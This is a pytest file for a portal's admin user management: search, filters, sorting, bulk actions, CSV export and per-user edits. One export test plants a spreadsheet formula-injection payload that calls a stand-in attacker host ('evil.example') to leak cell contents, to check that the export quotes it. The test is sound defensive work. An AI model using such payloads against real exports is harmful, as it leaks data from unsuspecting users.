"""The admin's user list and a user's page: search, filters, sorting, pages,
bulk actions with their confirmation, the CSV export, and every action of a user's page."""

import csv
import io
import re
from datetime import datetime

import pytest
from sqlalchemy import update

from portal.extensions import db
from portal.models import User
from portal.services.audit import SYSTEM
from portal.services.people import accounts, bulk
from portal.transactions import unit_of_work

from ..conftest import PASSWORD, image_bytes, stored_avatars, stored_user, upload
from .conftest import (
    add_member,
    add_user,
    confirm,
    create_people,
    emails_in_list,
    events,
    field_errors,
    flashes,
    form_fields,
    is_confirmation,
    live_credentials,
    login_redirect,
    make_group,
    own_app,
    sign_in,
    submit_form,
    text,
)

ME = "/api/users/me/"


def listed(client, **query) -> list[str]:
    response = client.get("/admin/users/", query_string=query)
    assert response.status_code == 200, response.status_code
    return emails_in_list(response)


def browser_is_signed_in(client) -> bool:
    response = client.get("/profile/")
    if response.status_code == 200:
        return True
    assert login_redirect(response) == "/profile/", response.status_code
    return False


# Finding users: read-only, so each class of tests shares one app ---------------------------------------


@pytest.fixture(scope="class")
def searcher(tmp_path_factory):
    """A superuser's client on an app with the people and a few users with names to search for."""
    with own_app(tmp_path_factory.mktemp("search")) as app:
        people = create_people(app)
        add_user(app, "plain@example.com", username="Night_Owl.42")
        add_user(app, "under_score@example.com")
        add_user(app, "e1@example.com", first_name="Émilie", last_name="Øster")
        add_user(app, "e2@example.com", first_name="Ελένη", last_name="Weiß")
        add_user(app, "owner@straße.example.com")
        yield sign_in(app.test_client(), people.superuser)


class TestSearch:
    @pytest.mark.parametrize(
        "q, expected",
        [
            ("ember@exa", ["member@example.com"]),  # part of the email
            ("MEMBER@EXAMPLE", ["member@example.com"]),  # the email in another case
            ("mIa", ["member@example.com"]),  # first name (and username "mia")
            ("EMBE", ["member@example.com"]),  # part of the last name, another case
            ("tto", ["other@example.com"]),  # part of the first name
            ("thER", ["other@example.com"]),  # part of the last name
            ("GHT_ow", ["plain@example.com"]),  # part of the username, another case
            ("owl.4", ["plain@example.com"]),
            ("0124", ["member@example.com"]),  # part of the phone number, "+1 (555) 0124"
            ("555-0124", ["member@example.com"]),  # the phone written another way
            ("+1 (555) 0124", ["member@example.com"]),  # the phone as it was entered and is shown
            ("nobody-has-this", []),
        ],
    )
    def test_search_finds_part_of_email_name_username_or_phone_in_any_case(self, searcher, q, expected):
        assert listed(searcher, q=q) == expected

    def test_search_with_two_words_needs_both_to_match(self, searcher):
        assert listed(searcher, q="mia member") == ["member@example.com"]
        assert listed(searcher, q="MEMBER mia") == ["member@example.com"]
        assert listed(searcher, q="otto member") == []  # each word matches someone, but not the same one
        assert listed(searcher, q="rhea root") == ["root@example.com"]

    @pytest.mark.parametrize("q, expected", [("Émilie", "e1@example.com"), ("Weiß", "e2@example.com")],
                             ids=["Emilie", "Weiss"])
    def test_search_finds_a_name_typed_exactly_as_it_is_stored(self, searcher, q, expected):
        """A name may be any Unicode: typing it as the list shows it must find its owner."""
        assert listed(searcher, q=q) == [expected]

    @pytest.mark.parametrize("q, expected", [("ØSTER", "e1@example.com"), ("ελένη", "e2@example.com")],
                             ids=["OSTER", "eleni"])
    def test_search_ignores_the_case_of_letters_beyond_ascii(self, searcher, q, expected):
        """The search ignores case; names are any Unicode."""
        assert listed(searcher, q=q) == [expected]

    def test_search_finds_an_address_in_any_case_but_not_by_its_case_folding_twin(self, searcher):
        """"ß" is not "ss" in an address (two domains): the search tells them apart as sign-in does."""
        assert listed(searcher, q="STRAßE.Example") == ["owner@straße.example.com"]
        assert listed(searcher, q="strasse") == []

    def test_search_treats_like_wildcards_as_text(self, searcher):
        assert set(listed(searcher, q="_")) == {"under_score@example.com", "plain@example.com"}
        assert listed(searcher, q="%") == []


def create_mixed(app, people) -> dict:
    """Besides the people: a deactivated member, an unverified one, and a group of two."""
    gone = add_user(app, "gone@example.com")
    with app.app_context(), unit_of_work():
        accounts.update_account_flags(db.session.get(User, gone.id), {"is_active": False}, SYSTEM)
    fresh = add_user(app, "fresh@example.com", verified=False)
    editors = make_group(app, "Editors")
    add_member(app, people.member.id, editors)
    add_member(app, people.staff.id, editors)
    return {"gone": gone, "fresh": fresh, "editors": editors}


@pytest.fixture
def mixed(app, people):
    return create_mixed(app, people)


@pytest.fixture(scope="class")
def filtering(tmp_path_factory):
    """A superuser's client on an app with the people and ``create_mixed``'s users, and those."""
    with own_app(tmp_path_factory.mktemp("filters")) as app:
        people = create_people(app)
        mixed = create_mixed(app, people)
        yield sign_in(app.test_client(), people.superuser), mixed


class TestFilters:
    @pytest.mark.parametrize(
        "query, expected",
        [
            ({"active": "no"}, {"gone@example.com"}),
            ({"active": "yes"}, {"root@example.com", "staff@example.com", "staff2@example.com", "member@example.com",
                                 "other@example.com", "fresh@example.com"}),
            ({"staff": "yes"}, {"root@example.com", "staff@example.com", "staff2@example.com"}),
            ({"staff": "no"}, {"member@example.com", "other@example.com", "gone@example.com", "fresh@example.com"}),
            ({"verified": "no"}, {"fresh@example.com"}),
            ({"verified": "yes", "staff": "no", "active": "yes"}, {"member@example.com", "other@example.com"}),
            ({"group": "{editors}"}, {"member@example.com", "staff@example.com"}),
            ({"group": "{editors}", "staff": "no"}, {"member@example.com"}),
            ({"group": "{editors}", "q": "stan"}, {"staff@example.com"}),
            ({"active": "maybe", "group": "x"}, {"root@example.com", "staff@example.com", "staff2@example.com",
                                                 "member@example.com", "other@example.com", "fresh@example.com",
                                                 "gone@example.com"}),  # nonsense is no filter
        ],
        ids=lambda v: "&".join(f"{k}={x}" for k, x in v.items()) if isinstance(v, dict) else None,
    )
    def test_each_filter_and_their_combinations(self, filtering, query, expected):
        admin, mixed = filtering
        query = {k: v.format(**mixed) for k, v in query.items()}
        shown = listed(admin, **query)
        assert len(shown) == len(set(shown))
        assert set(shown) == expected
        page = admin.get("/admin/users/", query_string=query)
        assert f"{len(expected)} user{'s' if len(expected) != 1 else ''} found." in text(page)

    def test_the_filter_form_shows_what_was_asked(self, filtering):
        admin, mixed = filtering
        asked = {"q": "mia", "active": "yes", "verified": "no", "group": mixed["editors"]}
        page = admin.get("/admin/users/", query_string=asked)
        body = page.get_data(as_text=True)
        assert 'name="q" type="search" value="mia"' in body
        assert '<option value="yes" selected>Yes</option>' in body
        assert '<option value="no" selected>No</option>' in body
        assert f'<option value="{mixed["editors"]}" selected>Editors</option>' in body


# Four users whose every sortable column orders them differently (all found by "sortme"):
# email, first name, last name, username, month joined, month of last sign-in, active, staff, verified.
SORTABLE = [
    ("c-sortme@example.com", "Zed", "Adams", "bravo", 3, 2, True, False, True),
    ("a-sortme@example.com", "Amy", "Clark", "delta", 1, 3, False, True, False),
    ("d-sortme@example.com", "Bob", "Baker", "alpha", 4, 1, True, False, False),
    ("b-sortme@example.com", "Cal", "Baker", "charlie", 2, 4, False, False, True),
]
SORT_KEYS = {  # the column's value in SORTABLE's rows
    "email": lambda r: r[0],
    "name": lambda r: (r[2], r[1]),  # last name, then first name
    "username": lambda r: r[3],
    "joined": lambda r: r[4],
    "last_login": lambda r: r[5],
    "active": lambda r: r[6],
    "staff": lambda r: r[7],
    "verified": lambda r: r[8],
}


@pytest.fixture(scope="class")
def sorter(tmp_path_factory):
    """A superuser's client on an app with the users of SORTABLE."""
    with own_app(tmp_path_factory.mktemp("sorting")) as app:
        root = add_user(app, "root@example.com", superuser=True)
        for email, first, last, username, joined, login, active, staff, verified in SORTABLE:
            account = add_user(app, email, first_name=first, last_name=last, username=username, staff=staff)
            with app.app_context():
                db.session.execute(update(User).where(User.id == account.id).values(
                    date_joined=datetime(2021, joined, 1), last_login=datetime(2024, login, 1),
                    is_active=active, email_verified=verified))
                db.session.commit()
        yield sign_in(app.test_client(), root)


class TestSorting:
    @pytest.mark.parametrize("order", ["asc", "desc"])
    @pytest.mark.parametrize("column", list(SORT_KEYS))
    def test_sorting_by_each_column_both_ways(self, sorter, column, order):
        # SORTABLE is in id order, so the position breaks ties, in the same direction as the sort.
        ranked = sorted(enumerate(SORTABLE), key=lambda item: (SORT_KEYS[column](item[1]), item[0]))
        expected = [r[0] for _, r in ranked]
        if order == "desc":
            expected.reverse()
        assert listed(sorter, q="sortme", sort=column, order=order) == expected

    def test_the_sort_links_turn_the_order_around_and_keep_the_filters(self, sorter):
        page = sorter.get("/admin/users/",
                          query_string={"q": "sortme", "active": "yes", "sort": "email", "order": "asc"})
        body = text(page)
        assert 'aria-sort="ascending"' in body
        assert "/admin/users/?sort=email&order=desc&q=sortme&active=yes" in body
        assert listed(sorter, q="sortme", active="yes", sort="email", order="desc") == [
            "d-sortme@example.com", "c-sortme@example.com"]


@pytest.fixture
def admin(signed_in, people):
    return signed_in(people.superuser)


# Pages ----------------------------------------------------------------------------------------------


def test_more_than_fifty_users_are_paged_by_fifty_without_gaps_or_repeats(app, admin, people):
    with app.app_context(), unit_of_work():
        for n in range(60):
            accounts.create_user(f"bulk{n:02d}@example.com", PASSWORD, SYSTEM, email_verified=True)
    everyone = 60 + 5

    first = admin.get("/admin/users/", query_string={"sort": "email", "order": "asc"})
    assert f"{everyone} users found." in text(first)
    assert "Page 1 of 2" in text(first)
    assert 'href="/admin/users/?page=2&amp;sort=email&amp;order=asc' in first.get_data(as_text=True)
    assert 'rel="prev"' not in first.get_data(as_text=True)
    second = admin.get("/admin/users/", query_string={"sort": "email", "order": "asc", "page": 2})
    assert "Page 2 of 2" in text(second) and 'rel="next"' not in second.get_data(as_text=True)

    page_one, page_two = emails_in_list(first), emails_in_list(second)
    assert len(page_one) == 50 and len(page_two) == everyone - 50
    assert page_one + page_two == sorted(page_one + page_two)
    assert len(set(page_one + page_two)) == everyone

    for nonsense_page in (0, -5):
        assert emails_in_list(admin.get("/admin/users/", query_string={"page": nonsense_page, "sort": "email",
                                                                        "order": "asc"})) == page_one
    beyond = admin.get("/admin/users/", query_string={"page": 9})
    assert beyond.status_code == 200 and emails_in_list(beyond) == []
    nonsense = admin.get("/admin/users/",
                         query_string={"page": "x", "sort": "nope", "order": "sideways", "active": "maybe"})
    assert nonsense.status_code == 200 and len(emails_in_list(nonsense)) == 50


# Bulk actions ---------------------------------------------------------------------------------------


def test_each_cell_of_the_user_list_names_its_column_for_a_phone(admin, people):
    """On a narrow screen the rows stack without their header row; each cell says what it holds."""
    page = admin.get("/admin/users/").get_data(as_text=True)
    header_cells = re.findall(r'<th scope="col"[^>]*>(.*?)</th>', page, re.S)
    headers = {re.sub(r"<[^>]+>|[↓↑]", "", cell).strip() for cell in header_cells}
    first_row = re.search(r"<tbody>\s*<tr>(.*?)</tr>", page, re.S).group(1)

    labels = re.findall(r'<td data-label="([^"]+)">', first_row)

    assert labels == ["Name", "Username", "Joined", "Last sign-in", "Active", "Staff", "Verified", "Groups"]
    assert set(labels) <= set(headers), headers  # the same words as the header a desktop shows


def test_bulk_deactivation_asks_first_then_ends_every_way_in(app, admin, signed_in, people, token_auth, bearer, client):
    key = token_auth(people.member)
    jwt = bearer(people.member)
    members_browser = signed_in(people.member)
    ids = [people.member.id, people.member2.id]

    asked = admin.post("/admin/users/bulk", data={"action": "deactivate", "ids": ids, "group_id": ""})
    assert is_confirmation(asked, "Deactivate 2 users")
    assert "member@example.com" in text(asked) and "other@example.com" in text(asked)
    assert stored_user(app, people.member.id)["is_active"] and stored_user(app, people.member2.id)["is_active"]
    assert client.get(ME, headers=key).status_code == 200
    assert browser_is_signed_in(members_browser)

    done = confirm(admin, "/admin/users/bulk", asked)
    assert done.status_code == 302
    assert not stored_user(app, people.member.id)["is_active"] and not stored_user(app, people.member2.id)["is_active"]
    assert "2 of 2 accounts deactivated." in flashes(admin.get(done.headers["Location"]))
    assert client.get(ME, headers=key).status_code == 401
    assert client.get(ME, headers=jwt).status_code == 401
    assert not browser_is_signed_in(members_browser)
    assert live_credentials(app, people.member.id) == []
    changed = events(app, action="account_flags_changed")
    assert {(e.subject_id, e.via, e.actor_id) for e in changed} == {
        (people.member.id, "admin", people.superuser.id), (people.member2.id, "admin", people.superuser.id)
    }
    assert all(e.changes == {"is_active": [True, False]} for e in changed)


def test_bulk_activation_asks_first(app, admin, people, client):
    with app.app_context(), unit_of_work():
        for account in (people.member, people.member2):
            accounts.update_account_flags(db.session.get(User, account.id), {"is_active": False}, SYSTEM)
    ids = [people.member.id, people.member2.id]

    asked = admin.post("/admin/users/bulk", data={"action": "activate", "ids": ids})
    assert is_confirmation(asked, "Activate 2 users")
    assert not stored_user(app, people.member.id)["is_active"]

    confirm(admin, "/admin/users/bulk", asked)
    assert stored_user(app, people.member.id)["is_active"] and stored_user(app, people.member2.id)["is_active"]
    assert client.post("/api/token/", json={"email": people.member.email, "password": PASSWORD}).status_code == 200


def test_bulk_add_to_group_asks_first(app, admin, people):
    editors = make_group(app, "Editors")
    ids = [people.member.id, people.member2.id]

    asked = admin.post("/admin/users/bulk", data={"action": "add_to_group", "ids": ids, "group_id": editors})
    assert is_confirmation(asked, "Add to group 2 users (Editors)")
    assert stored_user(app, people.member.id)["groups"] == []

    confirm(admin, "/admin/users/bulk", asked)
    assert stored_user(app, people.member.id)["groups"] == ["Editors"]
    assert stored_user(app, people.member2.id)["groups"] == ["Editors"]
    assert {e.subject_id for e in events(app, action="group_membership_changed")} == set(ids)


def test_bulk_form_on_the_list_page_posts_to_the_bulk_action(admin, people):
    page = admin.get("/admin/users/", query_string={"q": "member"})
    body = page.get_data(as_text=True)
    assert f'<input type="checkbox" name="ids" value="{people.member.id}"' in body
    assert 'aria-label="Select member@example.com"' in body
    fields = form_fields(page, "/admin/users/bulk")
    assert fields["action"] == "activate"  # the first choice of the select
    offered = re.findall(r'<option value="([a-z_]+)">', body.split('id="bulk-action"')[1].split("</select>")[0])
    assert tuple(offered) == bulk.ACTIONS  # every action of the service, and no other


def test_bulk_without_a_selection_changes_nothing(app, admin, people):
    answer = admin.post("/admin/users/bulk", data={"action": "deactivate", "confirmed": "yes"})
    assert answer.status_code == 302
    assert "Choose an action and at least one user." in flashes(admin.get(answer.headers["Location"]))
    unknown = admin.post("/admin/users/bulk", data={"action": "explode", "ids": [people.member.id], "confirmed": "yes"})
    assert unknown.status_code == 302
    assert stored_user(app, people.member.id)["is_active"]
    assert events(app, action="account_flags_changed") == []


# CSV export -----------------------------------------------------------------------------------------


def exported(client, **query) -> list[dict]:
    response = client.get("/admin/users/export.csv", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="users.csv"'
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_csv_export_honours_the_filters_and_the_sort(admin, mixed):
    assert [r["email"] for r in exported(admin, active="no")] == ["gone@example.com"]
    assert {r["email"] for r in exported(admin, staff="yes")} == {
        "root@example.com", "staff@example.com", "staff2@example.com"}
    assert [r["email"] for r in exported(admin, verified="no")] == ["fresh@example.com"]
    assert [r["email"] for r in exported(admin, group=mixed["editors"], sort="email", order="asc")] == [
        "member@example.com", "staff@example.com"]
    assert [r["email"] for r in exported(admin, q="mia member")] == ["member@example.com"]
    everyone = exported(admin, sort="email", order="desc")
    assert [r["email"] for r in everyone] == sorted((r["email"] for r in everyone), reverse=True)
    assert len(everyone) == 7


def test_csv_export_has_every_column(admin, people, mixed):
    [member] = exported(admin, q="member@example.com")
    assert member["id"] == str(people.member.id)
    assert (member["first_name"], member["last_name"], member["username"]) == ("Mia", "Member", "mia")
    assert (member["is_active"], member["is_staff"], member["is_superuser"], member["email_verified"]) == (
        "True", "False", "False", "True")
    assert member["groups"] == "Editors"
    assert member["date_joined"]


def test_csv_export_quotes_cells_a_spreadsheet_would_run_as_formulas(app, admin, make_user):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    victim = make_user("victim@example.com", first_name=formula, last_name="+SUM(1,2)", username="-cmd",
                       phone="+1 555 0100")
    make_user("at@example.com", last_name="@SUM(A1)")
    make_user("=1+1@example.com")  # a valid address, and a formula
    evil = make_group(app, "@evil")
    add_member(app, victim.id, evil)

    rows = {r["email"]: r for r in exported(admin)}
    victim_row = rows["victim@example.com"]
    assert victim_row["first_name"] == "'" + formula
    assert victim_row["last_name"] == "'+SUM(1,2)"
    assert victim_row["username"] == "'-cmd"
    assert victim_row["phone"] == "'+1 555 0100"
    assert victim_row["groups"] == "'@evil"
    assert rows["at@example.com"]["last_name"] == "'@SUM(A1)"
    assert "'=1+1@example.com" in rows
    for cells in rows.values():
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@")), value


# A user's page --------------------------------------------------------------------------------------


def test_user_page_shows_the_profile_rights_groups_ways_in_and_history(app, admin, people, token_auth):
    token_auth(people.member)
    editors = make_group(app, "Editors")
    add_member(app, people.member.id, editors)
    page = admin.get(f"/admin/users/{people.member.id}")
    assert page.status_code == 200
    body = text(page)
    assert "<title>" in body and "member@example.com" in body
    fields = form_fields(page, f"/admin/users/{people.member.id}")
    assert (fields["first_name"], fields["last_name"], fields["username"], fields["phone"]) == (
        "Mia", "Member", "mia", "+1 (555) 0124")
    assert 'aria-label="Remove from Editors"' in body
    assert "API key" in body  # the member's key is listed with its End button
    assert f'action="/admin/users/{people.member.id}/credentials/' in body
    assert "API key created" in body and "Account created" in body  # their history


EVERY_FIELD = {
    "first_name": "Mira",
    "last_name": "Maker",
    "username": "mira_m",
    "email": "mira@example.com",
    "phone": "+44 20 7946 0000",
    "gender": "female",
    "country": "GB",
    "address": "1 Long Lane\nLondon",
    "birthday": "1990-05-17",
}


def test_editing_every_field_saves_audits_via_admin_and_mails_the_owner_field_names(app, signed_in, people, mailbox):
    staff = signed_in(people.staff)
    url = f"/admin/users/{people.member.id}"
    password_hash = stored_user(app, people.member.id)["password_hash"]

    answer = submit_form(staff, url, url, EVERY_FIELD | {"avatar": upload(image_bytes())})

    assert answer.status_code == 302 and answer.headers["Location"] == url
    stored = stored_user(app, people.member.id)
    assert {k: stored[k] for k in EVERY_FIELD if k != "birthday"} == {
        k: v for k, v in EVERY_FIELD.items() if k != "birthday"}
    assert stored["birthday"].isoformat() == "1990-05-17"
    assert stored["avatar"] and stored_avatars(app) == [stored["avatar"]]
    assert stored["email_verified"] is False  # a new address must answer a code

    [event] = events(app, action="profile_updated")
    assert (event.actor_id, event.subject_id, event.via, event.ip) == (
        people.staff.id, people.member.id, "admin", "127.0.0.1")
    assert event.changes == {
        "first_name": ["Mia", "Mira"],
        "last_name": ["Member", "Maker"],
        "username": ["mia", "mira_m"],
        "email": ["member@example.com", "mira@example.com"],
        "phone": ["+1 (555) 0124", "+44 20 7946 0000"],
        "gender": [None, "female"],
        "country": [None, "GB"],
        "address": [None, "1 Long Lane\nLondon"],
        "birthday": [None, "1990-05-17"],
        "avatar": [None, stored["avatar"]],
        "email_verified": [True, False],
    }

    [notice] = [m for m in mailbox.sent_to("mira@example.com") if m["Subject"] == "Your account was changed"]
    body = notice.get_body(("plain",)).get_content()
    for name in ("first name", "last name", "username", "email", "phone", "gender", "country", "address",
                 "birthday", "avatar"):
        assert name in body, name
    codes = [re.search(r"\b(\d{6})\b", m.get_body(("plain",)).get_content())
             for m in mailbox.sent_to("mira@example.com") if m is not notice]
    [code] = [found.group(1) for found in codes if found]  # the new address got a code to verify
    everything = notice.as_string()
    for secret in (PASSWORD, password_hash, stored["avatar"], code):
        if secret:
            assert secret not in everything
    for value in ("+44 20 7946 0000", "1 Long Lane", "1990-05-17"):
        assert value not in everything  # names, not values


def test_the_owner_is_not_mailed_when_nothing_changed(app, signed_in, people, mailbox):
    staff = signed_in(people.staff)
    url = f"/admin/users/{people.member.id}"
    assert submit_form(staff, url, url).status_code == 302
    assert events(app, action="profile_updated") == []
    assert mailbox.sent_to(people.member.email) == []


@pytest.mark.parametrize(
    "changes, field, message",
    [
        ({"email": "other@example.com"}, "email", "A user with that email already exists."),
        ({"email": "OTHER@Example.com"}, "email", "A user with that email already exists."),
        ({"phone": "call me"}, "phone", None),
        ({"phone": "+1 (555) 0124 ", "email": "x@example.com"}, None, None),  # the member's own phone: fine
        ({"username": "has space"}, "username", None),
        ({"birthday": "2999-01-01"}, "birthday", "Birthday cannot be in the future."),
        ({"first_name": "Evil\u202eName"}, "first_name", None),
    ],
    ids=["taken email", "taken email in another case", "bad phone", "own phone again", "bad username",
         "future birthday", "bidi override in a name"],
)
def test_a_refused_edit_shows_the_error_on_its_field_with_400_and_changes_nothing(
    app, signed_in, people, mailbox, changes, field, message
):
    staff = signed_in(people.staff)
    url = f"/admin/users/{people.member.id}"
    before = stored_user(app, people.member.id)

    answer = submit_form(staff, url, url, {"last_name": "Changed", **changes})

    if field is None:  # the control case: the same form without a mistake is saved
        assert answer.status_code == 302
        return
    assert answer.status_code == 400
    errors = field_errors(answer, field)
    assert errors and (message is None or errors == [message])
    assert f'aria-describedby="{field}-errors"' in answer.get_data(as_text=True)
    assert stored_user(app, people.member.id) == before
    assert events(app, action="profile_updated") == []
    assert mailbox.sent_to(people.member.email) == []


def test_mark_the_address_verified(app, admin, make_user):
    fresh = make_user("fresh@example.com", verified=False)
    page = admin.get(f"/admin/users/{fresh.id}")
    assert "Mark address verified" in text(page)

    answer = admin.post(f"/admin/users/{fresh.id}/verify")

    assert answer.status_code == 302
    stored = stored_user(app, fresh.id)
    assert stored["email_verified"] is True and stored["activated_at"] is not None
    [event] = events(app, action="account_flags_changed", subject_id=fresh.id)
    assert event.changes == {"email_verified": [False, True]} and event.via == "admin"
    assert admin.application.test_client().post(
        "/api/token/", json={"email": fresh.email, "password": PASSWORD}).status_code == 200


def test_deactivate_and_activate_from_the_user_page(app, admin, people, token_auth, client):
    key = token_auth(people.member)
    url = f"/admin/users/{people.member.id}/deactivate"
    asked = admin.post(url)
    assert is_confirmation(asked, "Deactivate this account?")
    assert stored_user(app, people.member.id)["is_active"]

    assert confirm(admin, url, asked).status_code == 302
    assert not stored_user(app, people.member.id)["is_active"]
    assert client.get(ME, headers=key).status_code == 401
    assert "Activate" in text(admin.get(f"/admin/users/{people.member.id}"))

    assert admin.post(f"/admin/users/{people.member.id}/activate").status_code == 302
    assert stored_user(app, people.member.id)["is_active"]
    assert client.get(ME, headers=key).status_code == 401  # the ended key stays ended
    assert client.post("/api/token/", json={"email": people.member.email, "password": PASSWORD}).status_code == 200


def test_removing_the_avatar_asks_first_then_deletes_the_file(app, admin, people):
    with app.app_context(), unit_of_work():
        accounts.update_profile(db.session.get(User, people.member.id), {"avatar": io.BytesIO(image_bytes())}, SYSTEM)
    [name] = stored_avatars(app)
    url = f"/admin/users/{people.member.id}/avatar/remove"
    assert "Remove picture…" in text(admin.get(f"/admin/users/{people.member.id}"))

    asked = admin.post(url)
    assert is_confirmation(asked, "Remove this picture?")
    assert stored_avatars(app) == [name] and stored_user(app, people.member.id)["avatar"] == name

    assert confirm(admin, url, asked).status_code == 302
    assert stored_avatars(app) == []
    assert stored_user(app, people.member.id)["avatar"] is None
    [event] = events(app, action="profile_updated", subject_id=people.member.id, via="admin")
    assert event.changes == {"avatar": [name, None]}
    assert admin.get(f"/media/avatars/{name}").status_code == 404


def test_add_to_and_remove_from_a_group(app, admin, people):
    editors = make_group(app, "Editors")
    make_group(app, "Readers")
    page = admin.get(f"/admin/users/{people.member.id}")
    assert form_fields(page, f"/admin/users/{people.member.id}/groups")["group_id"] == str(editors)

    assert admin.post(f"/admin/users/{people.member.id}/groups", data={"group_id": editors}).status_code == 302
    assert stored_user(app, people.member.id)["groups"] == ["Editors"]
    again = admin.post(f"/admin/users/{people.member.id}/groups", data={"group_id": editors})
    assert again.status_code == 302 and stored_user(app, people.member.id)["groups"] == ["Editors"]

    assert admin.post(f"/admin/users/{people.member.id}/groups/{editors}/remove").status_code == 302
    assert stored_user(app, people.member.id)["groups"] == []
    changes = [e.changes for e in events(app, action="group_membership_changed", subject_id=people.member.id)]
    assert changes == [{"groups": [None, "Editors"]}, {"groups": ["Editors", None]}]
    assert admin.post(f"/admin/users/{people.member.id}/groups", data={"group_id": 999_999}).status_code == 404


def test_ending_one_key_or_one_browser_session_of_the_user(app, admin, signed_in, people, token_auth, client):
    key = token_auth(people.member)
    other_key = token_auth(people.member)
    members_browser = signed_in(people.member)
    keys = live_credentials(app, people.member.id, kind="key")
    [session] = live_credentials(app, people.member.id, kind="session")
    page = admin.get(f"/admin/users/{people.member.id}")
    for credential in keys + [session]:
        end = f'/admin/users/{people.member.id}/credentials/{credential["public_id"]}/end'
        assert end in page.get_data(as_text=True)

    ended = admin.post(f"/admin/users/{people.member.id}/credentials/{keys[0]['public_id']}/end")
    assert ended.status_code == 302
    assert client.get(ME, headers=key).status_code == 401
    assert client.get(ME, headers=other_key).status_code == 200
    assert browser_is_signed_in(members_browser)
    [revoked] = events(app, action="api_key_revoked")
    assert (revoked.actor_id, revoked.via) == (people.superuser.id, "admin")
    assert revoked.changes == {"key": [keys[0]["public_id"], None]}

    assert admin.post(f"/admin/users/{people.member.id}/credentials/{session['public_id']}/end").status_code == 302
    assert not browser_is_signed_in(members_browser)
    assert client.get(ME, headers=other_key).status_code == 200
    # an ended one, or another user's, is not found
    assert admin.post(f"/admin/users/{people.member.id}/credentials/{session['public_id']}/end").status_code == 404
    token_auth(people.member2)
    [strangers] = live_credentials(app, people.member2.id, kind="key")
    assert admin.post(f"/admin/users/{people.member.id}/credentials/{strangers['public_id']}/end").status_code == 404
    assert live_credentials(app, people.member2.id, kind="key") == [strangers]


def test_delete_asks_first_then_the_account_is_gone_and_its_history_stays(app, admin, people, token_auth, client):
    key = token_auth(people.member)
    with app.app_context(), unit_of_work():
        accounts.update_profile(db.session.get(User, people.member.id), {"avatar": io.BytesIO(image_bytes())}, SYSTEM)
    history = events(app, subject_id=people.member.id)
    url = f"/admin/users/{people.member.id}/delete"

    asked = admin.post(url)
    assert is_confirmation(asked, "Delete this account?")
    assert "member@example.com" in text(asked)
    assert stored_user(app, people.member.id) is not None

    done = confirm(admin, url, asked)
    assert done.status_code == 302 and done.headers["Location"] == "/admin/users/"
    assert "The account member@example.com is deleted." in flashes(admin.get("/admin/users/"))
    assert stored_user(app, people.member.id) is None
    assert stored_avatars(app) == []
    assert client.get(ME, headers=key).status_code == 401
    assert admin.get(f"/admin/users/{people.member.id}").status_code == 404

    kept = {e.id: e for e in events(app, subject_label="member@example.com")}
    assert set(kept) >= {e.id for e in history}
    [deleted] = events(app, action="account_deleted")
    assert (deleted.subject_label, deleted.actor_id, deleted.via) == (
        "member@example.com", people.superuser.id, "admin")


@pytest.mark.parametrize(
    "method, path",
    [
        ("GET", "/admin/users/{missing}"),
        ("POST", "/admin/users/{missing}"),
        ("POST", "/admin/users/{missing}/access"),
        ("POST", "/admin/users/{missing}/activate"),
        ("POST", "/admin/users/{missing}/deactivate"),
        ("POST", "/admin/users/{missing}/verify"),
        ("POST", "/admin/users/{missing}/avatar/remove"),
        ("POST", "/admin/users/{missing}/delete"),
        ("POST", "/admin/users/{missing}/groups"),
        ("POST", "/admin/users/{missing}/groups/1/remove"),
        ("POST", "/admin/users/{missing}/credentials/nope/end"),
        ("GET", "/admin/users/99999999999999999999"),
    ],
)
def test_an_unknown_user_is_a_404_page(app, admin, method, path):
    make_group(app, "Editors")
    response = admin.open(path.format(missing=424242), method=method, data={"group_id": "1", "confirmed": "yes"})
    assert response.status_code == 404
    assert response.mimetype == "text/html" and "Page not found" in text(response)
